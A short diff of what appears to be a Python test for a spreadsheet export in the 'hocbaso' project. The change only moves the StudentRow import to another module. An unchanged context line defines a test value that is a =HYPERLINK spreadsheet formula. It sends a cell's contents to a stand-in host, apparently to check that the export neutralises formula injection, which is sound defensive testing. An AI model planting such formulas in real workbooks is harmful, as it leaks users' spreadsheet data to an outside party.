@@ -6,8 +6,8 @@ import io
 
 from openpyxl import load_workbook
 
-from hocbaso.rollout.dashboards import StudentRow
 from hocbaso.rollout.export import class_workbook
+from hocbaso.rollout.students import StudentRow
 
 NAME = '=HYPERLINK("http://x.example/?"&A1,"Xem")'
 
